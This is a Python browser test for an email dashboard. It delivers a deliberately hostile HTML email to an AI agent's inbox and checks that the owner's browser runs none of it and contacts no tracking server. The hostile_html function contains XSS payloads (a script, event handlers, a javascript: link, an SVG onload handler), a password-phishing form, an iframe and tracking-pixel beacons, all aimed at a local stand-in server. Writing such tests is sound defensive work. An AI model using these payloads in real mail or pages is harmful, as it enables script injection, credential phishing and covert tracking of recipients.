"""End to end in real Chromium: an owner reads an agent's mail whose HTML tries everything, and nothing in
it runs or calls home.

The message carries a <script>, on...= handlers, javascript: links, a form, a frame and images and CSS
pointing at a local HTTP server that stands in for the sender's tracking server. The browser must run
none of it (a global the script would set stays undefined, no dialog opens) and send that server
nothing; a control request at the end shows that the browser could reach it, so the silence means
something.
"""

from __future__ import annotations

import threading
from collections.abc import Iterator
from datetime import UTC, datetime, time, timedelta
from email.message import EmailMessage
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from io import StringIO
from typing import Any

import pytest
from django.core.management import call_command
from django.db.models.functions import Now
from playwright.sync_api import expect

from bookings.engine import booking_create
from bookings.models import Calendar
from bookings.spans import Span
from inboxes.addresses import agent_address
from inboxes.models import Direction, Message, MessageStatus
from tests.e2e.helpers import screenshot, watch_csp_violations
from tests.inboxes.helpers import deliver_raw
from workspaces.actor import Actor
from workspaces.models import Agent, Workspace

pytestmark = pytest.mark.slow


class TrackingServer:
    """A sender's server: records every request that reaches it, answers each with a 1-pixel PNG."""

    PIXEL = bytes.fromhex(
        "89504e470d0a1a0a0000000d4948445200000001000000010806000000"
        "1f15c4890000000d49444154789c6360000002000154a24f5d0000000049454e44ae426082"
    )

    def __init__(self) -> None:
        self.requests: list[str] = []
        recorded = self.requests
        pixel = self.PIXEL

        class Handler(BaseHTTPRequestHandler):
            def do_GET(self) -> None:  # noqa: N802 — the name http.server dispatches to
                recorded.append(self.path)
                self.send_response(200)
                self.send_header("Content-Type", "image/png")
                self.send_header("Content-Length", str(len(pixel)))
                self.end_headers()
                self.wfile.write(pixel)

            do_POST = do_GET  # noqa: N815 — a form posting here would be a request too

            def log_message(self, format: str, *args: Any) -> None:
                pass

        self.server = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
        self.url = f"http://127.0.0.1:{self.server.server_address[1]}"

    def __enter__(self) -> TrackingServer:
        threading.Thread(target=self.server.serve_forever, daemon=True).start()
        return self

    def __exit__(self, *exc: object) -> None:
        self.server.shutdown()
        self.server.server_close()


@pytest.fixture
def tracker() -> Iterator[TrackingServer]:
    with TrackingServer() as server:
        yield server


def hostile_html(tracker_url: str) -> str:
    return f"""
<html><head><title>Offer</title>
<style>body {{ background: url({tracker_url}/style-bg.png) }}</style>
<link rel="stylesheet" href="{tracker_url}/sheet.css">
<base href="{tracker_url}/">
</head><body>
<h2>Our offer for Acme</h2>
<p>Hi! Here is the <b>proposal</b> we discussed. Could we meet on <i>Tuesday at 10:00</i>?</p>
<script>window.__pwned = "script"; alert("script"); fetch("{tracker_url}/script-fetch");</script>
<img src="{tracker_url}/pixel.png" width="1" height="1" alt="">
<img src="x" onerror="window.__pwned = 'onerror'; alert('onerror')" alt="broken on purpose">
<div style="background-image: url({tracker_url}/inline-style.png)">Pricing starts at $49 per seat.</div>
<table background="{tracker_url}/table-bg.png"><tr><td>Seats</td><td>25</td></tr></table>
<p onclick="window.__pwned = 'onclick'">Click this paragraph</p>
<p><a href="javascript:window.__pwned = 'link'; alert('link')">Open the proposal</a>
 · <a href="https://example.com/proposal">Proposal on our site</a></p>
<svg onload="window.__pwned = 'svg'"><image href="{tracker_url}/svg.png"/></svg>
<iframe src="{tracker_url}/frame"></iframe>
<form action="{tracker_url}/form" method="post">
  <input name="password"><button>Confirm your password</button>
</form>
<p>Best,<br>Ana</p>
</body></html>
"""


def test_hostile_mail_html_is_inert_in_the_owners_browser(
    live_server: Any,
    dashboard_settings: Any,
    browser_page: Any,
    transactional_db: Any,
    tracker: TrackingServer,
) -> None:
    base = dashboard_settings.DASHBOARD_BASE_URL
    page = browser_page
    csp_violations = watch_csp_violations(page)
    dialogs: list[str] = []

    def on_dialog(dialog: Any) -> None:
        dialogs.append(dialog.message)
        dialog.dismiss()

    page.on("dialog", on_dialog)

    # The owner signs in with the magic link `create_owner` prints.
    out = StringIO()
    call_command("create_owner", "olivia@acme.test", "--workspace", "acme", stdout=out, stderr=StringIO())
    page.goto(out.getvalue().strip().splitlines()[-1])
    page.get_by_test_id("magic-continue").click()
    page.wait_for_url(f"{base}/auth/passkeys")

    # An agent with a booking, and mail: the hostile offer (with an invite for the booking and a PDF),
    # the agent's reply, and a second thread.
    workspace = Workspace.objects.get(slug="acme")
    agent = Agent.objects.create(
        workspace=workspace, name="SDR bot", slug="sdr", priority=100, max_priority=100
    )
    address = agent_address(agent)
    calendar = Calendar.objects.create(workspace=workspace, name="Sales team")
    start = datetime.combine(datetime.now(UTC).date() + timedelta(days=2), time(10), tzinfo=UTC)
    booking = booking_create(
        actor=Actor(workspace=workspace, agent=agent),
        calendar=calendar,
        span=Span(start, start + timedelta(minutes=30)),
        title="Acme intro",
    ).primary

    offer = EmailMessage()
    offer["From"] = "Ana Lopez <ana@example.com>"
    offer["To"] = address
    offer["Subject"] = "Our offer for Acme"
    offer["Message-ID"] = "<offer@example.com>"
    offer.set_content("Hi! Here is the proposal we discussed. Could we meet on Tuesday at 10:00?\n")
    offer.add_alternative(hostile_html(tracker.url), subtype="html")
    offer.add_attachment(b"%PDF-1.4 proposal", maintype="application", subtype="pdf", filename="proposal.pdf")
    (received,) = deliver_raw(offer.as_bytes(), [address])
    Message.objects.filter(pk=received.pk).update(
        calendar_event={
            "method": "REQUEST",
            "uid": "offer-meeting@example.com",
            "sequence": 0,
            "start_time": start.isoformat(),
            "end_time": (start + timedelta(minutes=30)).isoformat(),
            "summary": "Acme intro",
            "organizer": "ana@example.com",
            "attendees": [
                {"email": "ana@example.com", "name": "Ana Lopez", "status": "accepted"},
                {"email": address, "name": "SDR bot", "status": "needs-action"},
            ],
            "linked": booking.booking_id,
        }
    )
    Message.objects.create(
        agent=agent,
        thread=received.thread,
        direction=Direction.OUTBOUND,
        status=MessageStatus.SENT,
        from_address={"name": agent.name, "address": address},
        to=[{"name": "Ana Lopez", "address": "ana@example.com"}],
        subject="Re: Our offer for Acme",
        text="Thanks Ana, Tuesday at 10:00 works. I have booked it.\n",
        received_at=Now(),
        sent_at=Now(),
    )
    other = EmailMessage()
    other["From"] = "Bo Chen <bo@contoso.example>"
    other["To"] = address
    other["Subject"] = "Lunch next week?"
    other.set_content("Are you free for lunch on Thursday?\n")
    deliver_raw(other.as_bytes(), [address])

    # The inbox: both threads, live search through htmx.
    inbox = f"{base}/w/acme/agents/{agent.public_id}/inbox"
    page.goto(f"{base}/w/acme/inboxes")
    page.get_by_role("link", name="Open inbox").click()
    page.wait_for_url(inbox)
    assert page.get_by_test_id("thread-row").count() == 2
    screenshot(page, "inbox-threads")
    page.get_by_label("Search").fill("contoso")
    expect(page.get_by_test_id("thread-row")).to_have_count(1)  # the page's policy forbids eval
    assert "Lunch next week?" in page.get_by_test_id("thread-row").inner_text()
    page.get_by_label("Search").fill("")
    expect(page.get_by_test_id("thread-row")).to_have_count(2)

    # The thread. Try everything a reader might do: load it, click the paragraph and the link.
    page.get_by_role("link", name="Our offer for Acme").click()
    page.wait_for_url(f"{inbox}/{received.thread.public_id}")
    page.wait_for_load_state("networkidle")
    body = page.get_by_test_id("message-html")
    assert "proposal" in body.inner_text()
    body.get_by_text("Click this paragraph").click()
    body.get_by_text("Open the proposal").click()
    page.wait_for_timeout(300)

    assert page.evaluate("typeof window.__pwned") == "undefined"
    assert dialogs == []
    assert tracker.requests == []
    # The sanitizer left nothing for the page's policy to refuse: a quiet list, not a deaf listener
    # (tests/e2e/helpers.py watches both the console and the document's violation events).
    assert csp_violations == []
    assert body.locator("script, iframe, form, svg, style, [onclick], [onerror]").count() == 0
    proposal_link = body.get_by_role("link", name="Proposal on our site")
    assert proposal_link.get_attribute("target") == "_blank"
    assert proposal_link.get_attribute("rel") == "noopener noreferrer nofollow"
    assert page.get_by_test_id("untrusted-notice").is_visible()
    assert page.get_by_test_id("invite-card").is_visible()
    assert page.get_by_test_id("message").count() == 2
    screenshot(page, "inbox-thread")

    # Looking is not reading: the agent has not fetched it, so it stays unread.
    received.refresh_from_db()
    assert received.read_at is None

    # The control: this browser does reach the tracking server when asked to directly.
    control = page.context.new_page()
    control.goto(f"{tracker.url}/control.png")
    control.close()
    assert tracker.requests[0] == "/control.png"  # (then perhaps its /favicon.ico)
